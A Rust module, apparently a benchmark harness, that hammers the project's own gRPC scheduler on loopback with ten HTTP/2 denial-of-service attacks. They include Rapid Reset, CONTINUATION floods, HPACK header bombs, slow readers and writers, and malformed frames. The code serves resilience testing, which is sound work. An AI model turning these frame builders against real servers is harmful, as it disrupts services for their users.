//! Attacks on a scheduler's TCP door by somebody who speaks HTTP/2 and knows the names of its calls, each at a steady
//! pace, from an address of its own, and on a thread of the lowest priority, or on a core that nobody else uses: an attacker
//! has a computer of its own.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

use anyhow::{Context, Result};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    time::{Instant, interval, timeout},
};

use rustix::thread::{CpuSet, sched_getaffinity, sched_setaffinity};

use crate::chance::Chance;

/// Connections that the idle attack keeps, those included that the scheduler has closed.
const IDLE: usize = 10_000;
/// Between two blows.
const TICK: Duration = Duration::from_millis(20);
/// How long an attacker waits for an answer that it does not care about.
const LINGER: Duration = Duration::from_millis(100);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// RFC 9113, section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW: u16 = 4;

/// What is done to it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Ten thousand connections that say nothing, or no more than hello.
    Idle,
    /// Frames that RFC 9113 forbids, and noise.
    Malformed,
    /// Messages that say they have 4 GiB, and go on for as long as they are read.
    Oversized,
    /// Messages that come a byte at a time.
    SlowWriters,
    /// Many calls whose answers nobody reads.
    SlowReaders,
    /// As many calls on one connection as it lets begin, none of which ever says anything.
    StreamFlood,
    /// Calls that are cancelled as they are made (CVE-2023-44487).
    RapidReset,
    /// Header blocks that never end (CVE-2024-27316), and small ones that mean large ones.
    Metadata,
    /// Pings and settings to be acknowledged, faster than the acknowledgements are read.
    Pings,
    /// Calls with made-up sessions, handles and bytes.
    Forged,
}

/// All of them.
pub const ATTACKS: [Attack; 10] = [
    Attack::Idle,
    Attack::Malformed,
    Attack::Oversized,
    Attack::SlowWriters,
    Attack::SlowReaders,
    Attack::StreamFlood,
    Attack::RapidReset,
    Attack::Metadata,
    Attack::Pings,
    Attack::Forged,
];

impl Attack {
    /// The address it comes from: one of its own, so that what is held against one attack does not spare the next.
    pub fn address(self) -> Ipv4Addr {
        Ipv4Addr::new(127, 0, 1, 1 + self as u8)
    }

    /// Its name, as figures have it.
    pub fn name(self) -> &'static str {
        match self {
            Attack::Idle => "idle",
            Attack::Malformed => "malformed",
            Attack::Oversized => "oversized",
            Attack::SlowWriters => "slow_writers",
            Attack::SlowReaders => "slow_readers",
            Attack::StreamFlood => "stream_flood",
            Attack::RapidReset => "rapid_reset",
            Attack::Metadata => "metadata",
            Attack::Pings => "pings",
            Attack::Forged => "forged",
        }
    }
}

/// Keeps this thread, and what it starts from now on, off one core, and gives that one to attackers: they have a computer of
/// their own. None where there is one core only.
///
/// # Errors
/// What the kernel reports.
pub fn part_cores() -> Result<Option<CpuSet>> {
    let mut ours = sched_getaffinity(None)?;
    let last = (0..CpuSet::MAX_CPU).rev().find(|&core| ours.is_set(core));
    let Some(last) = last.filter(|_| ours.count() > 1) else {
        return Ok(None);
    };
    let mut theirs = CpuSet::new();
    theirs.set(last);
    ours.unset(last);
    sched_setaffinity(None, &ours)?;
    Ok(Some(theirs))
}

/// An attack that goes on until it is dropped.
#[derive(Debug)]
pub struct Attacker {
    over: Arc<AtomicBool>,
    blows: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Attacker {
    /// Begins.
    ///
    /// # Errors
    /// For want of a thread.
    pub fn start(attack: Attack, address: SocketAddr, seed: u64) -> Result<Self> {
        Self::start_on(attack, address, seed, None)
    }

    /// Begins on cores of its own, if it has some.
    ///
    /// # Errors
    /// For want of a thread.
    pub fn start_on(
        attack: Attack,
        address: SocketAddr,
        seed: u64,
        cores: Option<CpuSet>,
    ) -> Result<Self> {
        let (over, blows) = (Arc::new(AtomicBool::new(false)), Arc::default());
        let stage = Stage {
            address,
            over: Arc::clone(&over),
            blows: Arc::clone(&blows),
            chance: Chance::new(seed),
        };
        let act = move || {
            // SAFETY: numbers in, a number out; on Linux it is this thread's own priority.
            unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, 19) };
            if let Some(cores) = cores
                && sched_setaffinity(None, &cores).is_err()
            {
                // It would stand where it is measured; no blows, and the bench says so.
                return;
            }
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build();
            if let Ok(runtime) = runtime {
                runtime.block_on(stage.run(attack));
            }
        };
        let thread = thread::Builder::new().name("attacker".to_owned());
        Ok(Self {
            over,
            blows,
            thread: Some(thread.spawn(act)?),
        })
    }

    /// Connections, calls or frames so far.
    pub fn blows(&self) -> u64 {
        self.blows.load(Ordering::Relaxed)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // It ends within a tick; that it panicked shows in its blows.
            let _ = thread.join();
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let [_, length @ ..] = length;
    let mut bytes = length.to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

fn settings(all: &[(u16, u32)]) -> Vec<u8> {
    let each = all
        .iter()
        .flat_map(|(id, value)| id.to_be_bytes().into_iter().chain(value.to_be_bytes()));
    frame(SETTINGS, 0, 0, &each.collect::<Vec<_>>())
}

fn hello(all: &[(u16, u32)]) -> Vec<u8> {
    [PREFACE, &settings(all)].concat()
}

/// A string as HPACK has it (RFC 7541, section 5.2), of fewer than 127 bytes or of 127 to 16,510.
fn string(text: &[u8]) -> Vec<u8> {
    let mut bytes = match text.len() {
        short @ ..127 => vec![short as u8],
        long => {
            let rest = long - 127;
            vec![127, (rest & 127) as u8 | 128, (rest >> 7) as u8]
        }
    };
    bytes.extend(text);
    bytes
}

fn header(name: &str, value: &[u8]) -> Vec<u8> {
    [vec![0], string(name.as_bytes()), string(value)].concat()
}

/// The headers of a call: POST, http, and the rest by literals (RFC 7541, appendix A).
fn call(path: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x04];
    block.extend(string(path.as_bytes()));
    block.push(0x01);
    block.extend(string(b"localhost"));
    block.extend(header("content-type", b"application/grpc"));
    block.extend(header("te", b"trailers"));
    for (name, value) in more {
        block.extend(header(name, value));
    }
    block
}

/// A gRPC message that says it has so many bytes.
fn message(length: u32, bytes: &[u8]) -> Vec<u8> {
    [&[0], &length.to_be_bytes()[..], bytes].concat()
}

/// What an attacker has at hand.
struct Stage {
    address: SocketAddr,
    over: Arc<AtomicBool>,
    blows: Arc<AtomicU64>,
    chance: Chance,
}

impl Stage {
    async fn run(mut self, attack: Attack) {
        let mut tick = interval(TICK);
        tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
        let mut held = Vec::new();
        while !self.over.load(Ordering::Relaxed) {
            tick.tick().await;
            // A connection that broke is what the attacker wants, or is replaced by the next.
            let _ = self.blow(attack, &mut held).await;
        }
    }

    fn count(&self, blows: usize) {
        self.blows.fetch_add(blows as u64, Ordering::Relaxed);
    }

    async fn connect(&self, attack: Attack, first: &[u8]) -> Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((attack.address(), 0).into())?;
        let mut stream = timeout(LINGER, socket.connect(self.address)).await??;
        write(&mut stream, first).await?;
        Ok(stream)
    }

    async fn blow(&mut self, attack: Attack, held: &mut Vec<TcpStream>) -> Result<()> {
        match attack {
            Attack::Idle => {
                if held.len() >= IDLE {
                    held.drain(..IDLE / 10);
                }
                for number in 0..100 {
                    let first = if number % 2 == 0 {
                        &[][..]
                    } else {
                        &hello(&[])
                    };
                    held.push(self.connect(attack, first).await?);
                    self.count(1);
                }
            }
            Attack::Malformed => {
                for number in 0..8 {
                    let bytes = self.malformed(number);
                    let mut stream = self.connect(attack, &bytes).await?;
                    drain(&mut stream, LINGER / 20).await;
                    self.count(1);
                }
            }
            Attack::Oversized => {
                let mut stream = self.connect(attack, &hello(&[])).await?;
                let begin = call("/hotcell.v1.Tokens/Tokenize", &[]);
                write(&mut stream, &frame(HEADERS, END_HEADERS, 1, &begin)).await?;
                let mut rest = message(u32::MAX, &[7; 16_000]);
                let end = Instant::now() + LINGER;
                while Instant::now() < end {
                    write(&mut stream, &frame(DATA, 0, 1, &rest)).await?;
                    rest = vec![7; 16_384];
                    self.count(1);
                }
            }
            Attack::SlowWriters => {
                if held.len() < 200 {
                    let begin = call("/hotcell.v1.Tokens/Tokenize", &[]);
                    let bytes = [
                        hello(&[]),
                        frame(HEADERS, END_HEADERS, 1, &begin),
                        frame(DATA, 0, 1, &message(1 << 20, &[])),
                    ];
                    held.push(self.connect(attack, &bytes.concat()).await?);
                }
                for stream in held.iter_mut() {
                    write(stream, &frame(DATA, 0, 1, &[0])).await?;
                    self.count(1);
                }
            }
            Attack::SlowReaders => {
                if held.len() < 50 {
                    let mut bytes = hello(&[(INITIAL_WINDOW, 0)]);
                    for number in 0..100 {
                        let path = match number % 2 {
                            0 => "/hotcell.v1.Control/WatchEvents",
                            _ => "/hotcell.v1.Control/ListModels",
                        };
                        let stream = 2 * number + 1;
                        bytes.extend(frame(HEADERS, END_HEADERS, stream, &call(path, &[])));
                        bytes.extend(frame(DATA, 1, stream, &message(0, &[])));
                    }
                    held.push(self.connect(attack, &bytes).await?);
                    self.count(100);
                }
            }
            Attack::StreamFlood => {
                let begin = call("/hotcell.v1.Tokens/Generate", &[]);
                let mut bytes = hello(&[]);
                for stream in (1..4001).step_by(2) {
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &begin));
                }
                let mut stream = self.connect(attack, &bytes).await?;
                self.count(2000);
                drain(&mut stream, LINGER / 20).await;
                held.push(stream);
                if held.len() > 20 {
                    held.remove(0);
                }
            }
            Attack::RapidReset => {
                let begin = call("/hotcell.v1.Control/ListModels", &[]);
                let mut bytes = hello(&[]);
                for stream in (1..401).step_by(2) {
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &begin));
                    bytes.extend(frame(RESET, 0, stream, &8u32.to_be_bytes()));
                }
                let mut stream = self.connect(attack, &bytes).await?;
                self.count(200);
                drain(&mut stream, LINGER / 20).await;
            }
            Attack::Metadata => {
                let large = vec![b'x'; 4000];
                let endless = [
                    hello(&[]),
                    frame(HEADERS, 0, 1, &call("/hotcell.v1.Control/ListModels", &[])),
                ];
                let mut stream = self.connect(attack, &endless.concat()).await?;
                for _ in 0..64 {
                    let more = frame(CONTINUATION, 0, 1, &header("x", &large));
                    if write(&mut stream, &more).await.is_err() {
                        break;
                    }
                    self.count(1);
                }
                // Put into the table of headers once, and called for four thousand times.
                let mut block = call("/hotcell.v1.Control/ListModels", &[]);
                block.push(0x40);
                block.extend([string(b"bomb"), string(&large[..3900])].concat());
                block.extend(vec![0xbe; 4000]);
                let bomb = [hello(&[]), frame(HEADERS, END_HEADERS, 1, &block)].concat();
                let mut stream = self.connect(attack, &bomb).await?;
                drain(&mut stream, LINGER / 20).await;
                self.count(1);
            }
            Attack::Pings => {
                let mut bytes = hello(&[]);
                for _ in 0..500 {
                    bytes.extend(frame(PING, 0, 0, &[0; 8]));
                    bytes.extend(settings(&[]));
                }
                held.push(self.connect(attack, &bytes).await?);
                self.count(1000);
                if held.len() > 50 {
                    held.remove(0);
                }
            }
            Attack::Forged => {
                let mut bytes = hello(&[]);
                const CALLS: [&str; 6] = [
                    "/hotcell.v1.Tensors/Free",
                    "/hotcell.v1.Tensors/Download",
                    "/hotcell.v1.Tensors/Execute",
                    "/hotcell.v1.Tensors/Memory",
                    "/hotcell.v1.Tokens/Generate",
                    "/hotcell.v1.Control/LoadModel",
                ];
                for (stream, number) in (1..).step_by(2).zip(0..50usize) {
                    let name = format!("s-{:032x}", self.chance.number());
                    let more = [(hotcell_proto::session::SESSION_KEY, name.as_bytes())];
                    let path = CALLS[number % CALLS.len()];
                    let length = self.chance.below(64);
                    let noise: Vec<u8> =
                        (0..length).map(|_| self.chance.below(256) as u8).collect();
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &call(path, &more)));
                    bytes.extend(frame(DATA, 1, stream, &message(length as u32, &noise)));
                }
                let mut stream = self.connect(attack, &bytes).await?;
                self.count(50);
                drain(&mut stream, LINGER / 5).await;
            }
        }
        Ok(())
    }

    /// One of eight ways to break the protocol.
    fn malformed(&mut self, number: usize) -> Vec<u8> {
        let begin = call("/hotcell.v1.Control/ListModels", &[]);
        let after = |bytes: Vec<u8>| [hello(&[]), bytes].concat();
        match number {
            // The largest length there is, and nothing behind it.
            0 => after(vec![0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]),
            1 => after(frame(HEADERS, END_HEADERS, 0, &begin)),
            2 => after(frame(HEADERS, END_HEADERS, 2, &begin)),
            3 => after(frame(DATA, 0, 7, b"nobody's")),
            4 => after(frame(WINDOW, 0, 0, &0x7fff_ffffu32.to_be_bytes())),
            5 => after(settings(&[(INITIAL_WINDOW, u32::MAX), (5, 1)])),
            // Indices that no table has.
            6 => after(frame(
                HEADERS,
                END_HEADERS,
                1,
                &[0xff, 0xff, 0xff, 0xff, 0x7f],
            )),
            _ => (0..512).map(|_| self.chance.below(256) as u8).collect(),
        }
    }
}

/// Writes, unless the other side has not taken it for a while.
async fn write(stream: &mut TcpStream, bytes: &[u8]) -> Result<()> {
    let done = timeout(LINGER, stream.write_all(bytes)).await;
    Ok(done.context("it is not read")??)
}

/// Reads what comes for so long.
async fn drain(stream: &mut TcpStream, time: Duration) {
    let mut bytes = [0; 16_384];
    // Whether it ends or breaks, the attacker has what it wanted.
    let _ = timeout(time, async {
        while stream.read(&mut bytes).await.is_ok_and(|n| n > 0) {}
    })
    .await;
}
